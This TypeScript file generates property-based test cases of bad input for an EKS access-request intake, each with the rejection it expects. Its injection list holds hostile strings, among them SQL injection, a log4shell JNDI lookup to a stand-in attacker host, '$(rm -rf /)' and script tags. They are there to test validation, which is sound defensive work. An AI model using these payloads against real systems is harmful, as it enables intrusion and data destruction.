/**
 * Generators of bad input for the intake: each case is one way a request can be wrong (a wrong type, a
 * missing field, a huge string, unicode where only ASCII names go, an invalid ARN, namespace or duration, an
 * injection string, deep nesting, an extra field, a wrong envelope, or a well-formed request the rules refuse),
 * with the rejection it must get: the code, and the field when one field is at fault.
 */

import fc from 'fast-check';
import type { Delivery } from '../../functions/app/identify-caller';
import type { RejectionCode } from '../../functions/core/model';

export const SOURCE = 'com.example.ticketing';

export interface BadCase {
  readonly description: string;
  /** An EventBridge event (an object), or the raw body of an SQS message. */
  readonly input: Delivery;
  readonly code: RejectionCode;
  /** The field named in the rejection: exact, or (`prefix`) any field under it. */
  readonly field?: string | { readonly prefix: string };
}

type Kind = 'grant' | 'revoke' | 'extend';
type Detail = Record<string, unknown>;

const DETAIL_TYPES: Readonly<Record<Kind, string>> = {
  grant: 'Access Grant Requested',
  revoke: 'Access Revoke Requested',
  extend: 'Access Extend Requested',
};

const REQUIRED: Readonly<Record<Kind, readonly string[]>> = {
  grant: [
    'requestId',
    'clusterName',
    'principalArn',
    'policyArn',
    'accessScope',
    'durationSeconds',
    'requestedBy',
    'reason',
  ],
  revoke: ['requestId', 'requestedBy', 'reason'],
  extend: ['requestId', 'durationSeconds', 'requestedBy', 'reason'],
};

/** String fields and the longest value each accepts. */
const MAX_LENGTHS: Readonly<Record<string, number>> = {
  requestId: 128,
  clusterName: 100,
  principalArn: 2048,
  policyArn: 256,
  requestedBy: 256,
  reason: 1024,
};

const requestIdArb = fc.stringMatching(/^[A-Za-z0-9._:#-]{1,40}$/);
const kindArb = fc.constantFrom<Kind>('grant', 'revoke', 'extend');

function validDetail(kind: Kind, requestId: string): Detail {
  switch (kind) {
    case 'grant':
      return {
        requestId,
        clusterName: 'demo',
        principalArn: 'arn:aws:iam::111122223333:role/developer',
        policyArn: 'AmazonEKSViewPolicy',
        accessScope: { type: 'namespace', namespaces: ['team-a', 'team-b'] },
        durationSeconds: 3600,
        requestedBy: 'alice@example.com',
        reason: 'bad input test',
        ticket: { system: 'jira', key: 'OPS-1', url: 'https://example.atlassian.net/browse/OPS-1' },
        breakGlass: false,
      };
    case 'revoke':
      return { requestId, requestedBy: 'alice@example.com', reason: 'done' };
    case 'extend':
      return { requestId, durationSeconds: 600, requestedBy: 'alice@example.com', reason: 'more time' };
  }
}

function envelope(kind: Kind, detail: unknown): Record<string, unknown> {
  // From the ticketing integration's account: only what is wrong with the request itself gets it refused.
  return {
    version: '0',
    id: 'bad-input',
    source: SOURCE,
    account: '111122223333',
    'detail-type': DETAIL_TYPES[kind],
    detail,
  };
}

/** An own, enumerable property even for `__proto__`, as JSON.parse would make it. */
function withKey(detail: Detail, key: string, value: unknown): Detail {
  const copy: Detail = { ...detail };
  Object.defineProperty(copy, key, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

function without(detail: Detail, key: string): Detail {
  const copy: Detail = { ...detail };
  delete copy[key];
  return copy;
}

/** Half the cases arrive as EventBridge events, half as SQS bodies sent by the ticketing integration's role. */
function delivered(event: unknown, asSqs: boolean): BadCase['input'] {
  return asSqs ? { sqsBody: JSON.stringify(event), senderId: BAD_INPUT_SENDER_ID } : { event };
}

/** The SQS SenderId the bad-input cases are sent with: resolve it to the ticketing role (KnownSenders). */
export const BAD_INPUT_SENDER_ID = 'AROABADINPUTSENDER1:ticketing';

const fieldCase = (
  description: string,
  kind: Kind,
  detail: Detail,
  field: BadCase['field'],
  asSqs: boolean,
  code: RejectionCode = 'INVALID_FIELD',
): BadCase => ({ description, input: delivered(envelope(kind, detail), asSqs), code, field });

const wrongValue = fc.oneof(
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
);

const wrongType = fc
  .tuple(kindArb, requestIdArb, fc.nat(), wrongValue, fc.boolean())
  .chain(([kind, requestId, index, value, asSqs]) => {
    const fields = kind === 'grant' ? [...REQUIRED.grant, 'ticket', 'breakGlass'] : REQUIRED[kind];
    const field = fields[index % fields.length] ?? 'requestId';
    const expected = field === 'durationSeconds' ? 'number' : field === 'breakGlass' ? 'boolean' : 'other';
    // An object where an object goes fails on one of its own fields.
    const where =
      field === 'accessScope' || field === 'ticket' ? { prefix: `detail.${field}` } : `detail.${field}`;
    // A value of the expected type would not be wrong: swap it for one of another type.
    const bad =
      (expected === 'number' && typeof value === 'number') ||
      (expected === 'boolean' && typeof value === 'boolean')
        ? 'not the right type'
        : typeof value === 'string' && field !== 'durationSeconds' && field !== 'breakGlass'
          ? 42
          : value;
    const detail = withKey(validDetail(kind, requestId), field, bad);
    return fc.constant(fieldCase(`${kind}: ${field} of the wrong type`, kind, detail, where, asSqs));
  });

const missing = fc
  .tuple(kindArb, requestIdArb, fc.nat(), fc.boolean())
  .map(([kind, requestId, index, asSqs]) => {
    const field = REQUIRED[kind][index % REQUIRED[kind].length] ?? 'requestId';
    return fieldCase(
      `${kind}: ${field} missing`,
      kind,
      without(validDetail(kind, requestId), field),
      `detail.${field}`,
      asSqs,
    );
  });

const huge = fc
  .tuple(
    kindArb,
    requestIdArb,
    fc.nat(),
    fc.integer({ min: 1, max: 400 }),
    fc.constantFrom('x', 'é', '🚀', ' a'),
    fc.boolean(),
  )
  .map(([kind, requestId, index, factor, unit, asSqs]): BadCase => {
    const fields = REQUIRED[kind].filter((f) => f in MAX_LENGTHS);
    const field = fields[index % fields.length] ?? 'reason';
    const max = MAX_LENGTHS[field] ?? 1024;
    // Limits count characters (code points), so a 🚀 counts once although it takes two UTF-16 units.
    const value = unit.repeat(Math.ceil(((max + 1) * factor) / [...unit].length) + 1);
    const event = envelope(kind, withKey(validDetail(kind, requestId), field, value));
    const body = JSON.stringify(event);
    // A body beyond what EventBridge can carry is refused as a whole, before any field is read.
    if (asSqs && body.length > 262_144) {
      return {
        description: `${kind}: huge body`,
        input: { sqsBody: body, senderId: undefined },
        code: 'INVALID_ENVELOPE',
      };
    }
    return fieldCase(
      `${kind}: ${field} of ${value.length} characters`,
      kind,
      withKey(validDetail(kind, requestId), field, value),
      `detail.${field}`,
      asSqs,
    );
  });

const UNICODE = ['é', '中', '🚀', '\u202e', '\u0000', 'ｒ', 'İ', '\u200b', '\ufeff', 'ß'];

const unicodeInNames = fc
  .tuple(
    fc.constantFrom('requestId', 'clusterName', 'principalArn', 'policyArn', 'namespace'),
    fc.constantFrom(...UNICODE),
    fc.nat({ max: 10 }),
    requestIdArb,
    fc.boolean(),
  )
  .map(([field, char, at, requestId, asSqs]): BadCase => {
    const detail = validDetail('grant', requestId);
    const insert = (value: string) => `${value.slice(0, at)}${char}${value.slice(at)}`;
    if (field === 'namespace') {
      const scope = { type: 'namespace', namespaces: ['team-a', insert('team-b')] };
      return fieldCase(
        `unicode ${JSON.stringify(char)} in a namespace`,
        'grant',
        { ...detail, accessScope: scope },
        'detail.accessScope.namespaces[1]',
        asSqs,
      );
    }
    return fieldCase(
      `unicode ${JSON.stringify(char)} in ${field}`,
      'grant',
      { ...detail, [field]: insert(String(detail[field])) },
      `detail.${field}`,
      asSqs,
    );
  });

const badText = fc
  .tuple(
    kindArb,
    fc.constantFrom('requestedBy', 'reason'),
    fc.constantFrom('\u0007', '\u001b[31m', '\ud800', '\udfff', '\u007f', '   '),
    requestIdArb,
    fc.boolean(),
  )
  .map(([kind, field, text, requestId, asSqs]) =>
    fieldCase(
      `${kind}: ${field} with ${JSON.stringify(text)}`,
      kind,
      { ...validDetail(kind, requestId), [field]: text.trim() === '' ? text : `ok ${text} ok` },
      `detail.${field}`,
      asSqs,
    ),
  );

const BAD_PRINCIPALS = [
  'arn:aws:sts::111122223333:assumed-role/developer/alice',
  'arn:aws:sts::111122223333:federated-user/alice',
  'arn:aws:iam::111122223333:root',
  'arn:aws:iam::1234:role/x',
  'arn:aws:iam::111122223333:group/devs',
  'arn:aws:iam::111122223333:role/aws-service-role/eks.amazonaws.com/AWSServiceRoleForAmazonEKS',
  'arn:aws:iam:us-east-1:111122223333:role/x',
  'arn:mars:iam::111122223333:role/x',
  'arn:aws:iam::111122223333:policy/x',
  'arn:aws:s3:::bucket',
  'arn:aws:iam::111122223333:user/',
  `arn:aws:iam::111122223333:role/${'n'.repeat(65)}`,
  'role/developer',
  '',
];

const badPrincipal = fc
  .tuple(
    fc.oneof(
      fc.constantFrom(...BAD_PRINCIPALS),
      fc.string().map((s) => `not-an-arn:${s}`),
    ),
    requestIdArb,
    fc.boolean(),
  )
  .map(([principalArn, requestId, asSqs]) =>
    fieldCase(
      `principalArn ${JSON.stringify(principalArn.slice(0, 40))}`,
      'grant',
      { ...validDetail('grant', requestId), principalArn },
      'detail.principalArn',
      asSqs,
    ),
  );

const BAD_POLICIES = [
  'AmazonEKSAutoNodePolicy',
  'AmazonEKSNetworkingPolicy',
  'arn:aws:eks::aws:cluster-access-policy/Nope',
  'arn:aws:iam::aws:policy/AdministratorAccess',
  'arn:mars:eks::aws:cluster-access-policy/AmazonEKSViewPolicy',
  'amazoneksviewpolicy',
  '',
];

const badPolicy = fc
  .tuple(
    fc.oneof(
      fc.constantFrom(...BAD_POLICIES),
      fc.string().map((s) => `X-${s}`),
    ),
    requestIdArb,
    fc.boolean(),
  )
  .map(([policyArn, requestId, asSqs]) =>
    fieldCase(
      `policyArn ${JSON.stringify(policyArn.slice(0, 40))}`,
      'grant',
      { ...validDetail('grant', requestId), policyArn },
      'detail.policyArn',
      asSqs,
    ),
  );

const BAD_NAMESPACES = ['Team', '-a', 'a-', 'a_b', 'a.b', 'a*b', '**', 'n'.repeat(64), '', ' ', 'ns/x', '*a'];

const badNamespace = fc
  .tuple(fc.constantFrom(...BAD_NAMESPACES), fc.nat({ max: 3 }), requestIdArb, fc.boolean())
  .map(([namespace, at, requestId, asSqs]) => {
    const namespaces = ['a', 'b', 'c'];
    namespaces.splice(at, 0, namespace);
    return fieldCase(
      `namespace ${JSON.stringify(namespace)}`,
      'grant',
      { ...validDetail('grant', requestId), accessScope: { type: 'namespace', namespaces } },
      `detail.accessScope.namespaces[${at}]`,
      asSqs,
    );
  });

const BAD_SCOPES: readonly [unknown, BadCase['field']][] = [
  [{ type: 'cluster', namespaces: ['a'] }, 'detail.accessScope.namespaces'],
  [{ type: 'namespace' }, 'detail.accessScope.namespaces'],
  [{ type: 'namespace', namespaces: [] }, 'detail.accessScope.namespaces'],
  [
    { type: 'namespace', namespaces: Array.from({ length: 26 }, (_, i) => `ns-${i}`) },
    'detail.accessScope.namespaces',
  ],
  [{ type: 'global' }, { prefix: 'detail.accessScope' }],
  [{ type: 'cluster', extra: 1 }, 'detail.accessScope.extra'],
  [{}, { prefix: 'detail.accessScope' }],
  ['cluster', 'detail.accessScope'],
];

const badScope = fc
  .tuple(fc.constantFrom(...BAD_SCOPES), requestIdArb, fc.boolean())
  .map(([[accessScope, field], requestId, asSqs]) =>
    fieldCase(
      `accessScope ${JSON.stringify(accessScope).slice(0, 60)}`,
      'grant',
      { ...validDetail('grant', requestId), accessScope },
      field,
      asSqs,
    ),
  );

const badDuration = fc
  .tuple(
    fc.constantFrom<Kind>('grant', 'extend'),
    fc.oneof(
      fc.constantFrom<unknown>(0, -1, 1.5, 604_801, 1e308, '3600', true, null, [], {}),
      fc.integer({ max: 0 }),
      fc.integer({ min: 604_801 }),
      fc.double({ noInteger: true, noNaN: true, min: -1e9, max: 1e9 }),
    ),
    requestIdArb,
    fc.boolean(),
  )
  .map(([kind, durationSeconds, requestId, asSqs]) =>
    fieldCase(
      `${kind}: durationSeconds ${JSON.stringify(durationSeconds)}`,
      kind,
      { ...validDetail(kind, requestId), durationSeconds },
      'detail.durationSeconds',
      asSqs,
    ),
  );

const INJECTIONS = [
  "' OR 1=1 --",
  '"; DROP TABLE leases; --',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, on purpose
  '${jndi:ldap://attacker.invalid/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '$(rm -rf /)',
  '`id`',
  '%00',
  '\r\nX-Injected: 1',
  '{"$ne": null}',
  '..\\..\\windows',
];

const injection = fc
  .tuple(
    fc.constantFrom('requestId', 'clusterName', 'principalArn', 'policyArn', 'namespace'),
    fc.constantFrom(...INJECTIONS),
    requestIdArb,
    fc.boolean(),
  )
  .map(([field, attack, requestId, asSqs]): BadCase => {
    const detail = validDetail('grant', requestId);
    if (field === 'namespace') {
      return fieldCase(
        `injection in a namespace`,
        'grant',
        { ...detail, accessScope: { type: 'namespace', namespaces: [attack] } },
        'detail.accessScope.namespaces[0]',
        asSqs,
      );
    }
    return fieldCase(
      `injection in ${field}`,
      'grant',
      { ...detail, [field]: `${String(detail[field])}${attack}` },
      `detail.${field}`,
      asSqs,
    );
  });

function nest(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}

const deepNesting = fc
  .tuple(
    fc.integer({ min: 10, max: 3000 }),
    fc.constantFrom('accessScope', 'ticket', 'extra', 'detail'),
    requestIdArb,
    fc.boolean(),
  )
  .map(([depth, where, requestId, asSqs]): BadCase => {
    const detail = validDetail('grant', requestId);
    if (where === 'detail') {
      return fieldCase(
        `detail nested ${depth} deep`,
        'grant',
        { a: nest(depth) },
        { prefix: 'detail' },
        asSqs,
      );
    }
    if (where === 'extra') {
      return fieldCase(
        `extra field nested ${depth} deep`,
        'grant',
        { ...detail, extra: nest(depth) },
        'detail.extra',
        asSqs,
      );
    }
    return fieldCase(
      `${where} nested ${depth} deep`,
      'grant',
      { ...detail, [where]: nest(depth) },
      { prefix: `detail.${where}` },
      asSqs,
    );
  });

const EXTRA_KEYS = [
  'namespace',
  '__proto__',
  'constructor',
  'prototype',
  'Reason',
  'request_id',
  'toString',
  'expiresAt',
];

const extraField = fc
  .tuple(
    kindArb,
    fc.oneof(fc.constantFrom(...EXTRA_KEYS), fc.stringMatching(/^x[a-zA-Z0-9]{0,10}$/)),
    fc.jsonValue(),
    requestIdArb,
    fc.boolean(),
  )
  .map(([kind, key, value, requestId, asSqs]) => {
    const event = envelope(kind, withKey(validDetail(kind, requestId), key, value));
    // Through JSON as well, so that `__proto__` arrives as JSON.parse makes it: an own key.
    const input = asSqs
      ? { sqsBody: JSON.stringify(event), senderId: undefined }
      : { event: JSON.parse(JSON.stringify(event)) as unknown };
    return {
      description: `${kind}: extra field ${key}`,
      input,
      code: 'INVALID_FIELD',
      field: `detail.${key}`,
    } satisfies BadCase;
  });

const wrongEnvelope = fc.oneof(
  fc.constantFrom<unknown>([], 'a string', 42, null, true).map(
    (event): BadCase => ({
      description: `envelope ${JSON.stringify(event)}`,
      input: { event },
      code: 'INVALID_ENVELOPE',
    }),
  ),
  fc
    .tuple(kindArb, fc.constantFrom('source', 'detail-type', 'detail'), requestIdArb, fc.boolean())
    .map(([kind, key, requestId, asSqs]): BadCase => {
      const event = envelope(kind, validDetail(kind, requestId));
      delete event[key];
      return {
        description: `envelope without ${key}`,
        input: delivered(event, asSqs),
        code: 'INVALID_ENVELOPE',
        field: key,
      };
    }),
  fc
    .tuple(
      kindArb,
      fc.oneof(fc.integer(), fc.constant(null), fc.array(fc.string())),
      requestIdArb,
      fc.boolean(),
    )
    .map(
      ([kind, source, requestId, asSqs]): BadCase => ({
        description: 'source of the wrong type',
        input: delivered({ ...envelope(kind, validDetail(kind, requestId)), source }, asSqs),
        code: 'INVALID_ENVELOPE',
        field: 'source',
      }),
    ),
  fc
    .tuple(
      kindArb,
      fc.string({ minLength: 1, maxLength: 80 }).filter((s) => s !== SOURCE),
      requestIdArb,
      fc.boolean(),
    )
    .map(
      ([kind, source, requestId, asSqs]): BadCase => ({
        description: 'source not on the allow-list',
        input: delivered({ ...envelope(kind, validDetail(kind, requestId)), source }, asSqs),
        code: 'SOURCE_NOT_ALLOWED',
        field: 'source',
      }),
    ),
  fc
    .tuple(
      fc.string({ maxLength: 80 }).filter((s) => !Object.values(DETAIL_TYPES).includes(s)),
      requestIdArb,
      fc.boolean(),
    )
    .map(
      ([detailType, requestId, asSqs]): BadCase => ({
        description: 'unknown detail-type',
        input: delivered(
          { ...envelope('grant', validDetail('grant', requestId)), 'detail-type': detailType },
          asSqs,
        ),
        code: 'UNKNOWN_DETAIL_TYPE',
        field: 'detail-type',
      }),
    ),
  fc
    .tuple(
      kindArb,
      fc.oneof(fc.string(), fc.integer(), fc.constant(null), fc.array(fc.integer())),
      fc.boolean(),
    )
    .map(
      ([kind, detail, asSqs]): BadCase => ({
        description: 'detail not an object',
        input: delivered(envelope(kind, detail), asSqs),
        code: 'INVALID_ENVELOPE',
        field: 'detail',
      }),
    ),
  fc.string().map(
    (text): BadCase => ({
      description: 'SQS body that is not JSON',
      input: { sqsBody: `{${text}`, senderId: undefined },
      code: 'INVALID_ENVELOPE',
    }),
  ),
  fc.constantFrom('null', '[]', '"text"', '42', 'true', '').map(
    (sqsBody): BadCase => ({
      description: `SQS body ${sqsBody || '(empty)'}`,
      input: { sqsBody, senderId: undefined },
      code: 'INVALID_ENVELOPE',
    }),
  ),
);

/** Well-formed requests that no rule allows: refused by the guardrails, before anything is written. */
const refusedByRules = fc
  .tuple(fc.nat({ max: 8 }), requestIdArb, fc.integer({ min: 28_801, max: 604_800 }), fc.boolean())
  .map(([which, requestId, duration, asSqs]): BadCase => {
    const detail = validDetail('grant', requestId);
    const oncall = 'arn:aws:iam::111122223333:role/oncall-primary';
    const cases: readonly [string, Detail, RejectionCode, BadCase['field']][] = [
      ['an undeclared cluster', { ...detail, clusterName: 'prod' }, 'UNKNOWN_CLUSTER', 'detail.clusterName'],
      [
        'a principal of another account',
        { ...detail, principalArn: 'arn:aws:iam::999999999999:role/x' },
        'NOT_ALLOWED',
        undefined,
      ],
      [
        'an IAM user no rule names',
        { ...detail, principalArn: 'arn:aws:iam::111122223333:user/bob' },
        'NOT_ALLOWED',
        undefined,
      ],
      [
        'a duration over the rule maximum',
        { ...detail, durationSeconds: duration },
        'DURATION_TOO_LONG',
        'detail.durationSeconds',
      ],
      [
        'cluster admin for a developer',
        { ...detail, policyArn: 'AmazonEKSClusterAdminPolicy', accessScope: { type: 'cluster' } },
        'NOT_ALLOWED',
        undefined,
      ],
      // The cases are sent by the ticketing integration: cluster admin is outside its ceiling, and it may not
      // send break-glass at all (test/safety/guardrails covers the on-call integration's refusals).
      [
        'cluster admin for an on-call role, through ticketing',
        {
          ...detail,
          principalArn: oncall,
          policyArn: 'AmazonEKSClusterAdminPolicy',
          accessScope: { type: 'cluster' },
        },
        'NOT_ALLOWED',
        undefined,
      ],
      [
        'break-glass through an integration that may not send it',
        {
          ...detail,
          principalArn: oncall,
          policyArn: 'AmazonEKSClusterAdminPolicy',
          accessScope: { type: 'cluster' },
          breakGlass: true,
          reason: 'urgent',
        },
        'BREAK_GLASS_NOT_ALLOWED',
        'detail.breakGlass',
      ],
      [
        'a policy of another partition',
        { ...detail, policyArn: 'arn:aws-cn:eks::aws:cluster-access-policy/AmazonEKSViewPolicy' },
        'INVALID_FIELD',
        'detail.policyArn',
      ],
      [
        'a principal of another partition',
        { ...detail, principalArn: 'arn:aws-cn:iam::111122223333:role/x' },
        'INVALID_FIELD',
        'detail.principalArn',
      ],
    ];
    const chosen = cases[which % cases.length];
    if (!chosen) throw new Error('no such case');
    const [description, body, code, field] = chosen;
    return {
      description: `refused by the rules: ${description}`,
      input: delivered(envelope('grant', body), asSqs),
      code,
      ...(field ? { field } : {}),
    };
  });

export const badCaseArb: fc.Arbitrary<BadCase> = fc.oneof(
  wrongType,
  missing,
  huge,
  unicodeInNames,
  badText,
  badPrincipal,
  badPolicy,
  badNamespace,
  badScope,
  badDuration,
  injection,
  deepNesting,
  extraField,
  wrongEnvelope,
  refusedByRules,
);

export function fieldMatches(expected: BadCase['field'], actual: unknown): boolean {
  if (expected === undefined) return true;
  if (typeof actual !== 'string') return false;
  return typeof expected === 'string' ? actual === expected : actual.startsWith(expected.prefix);
}
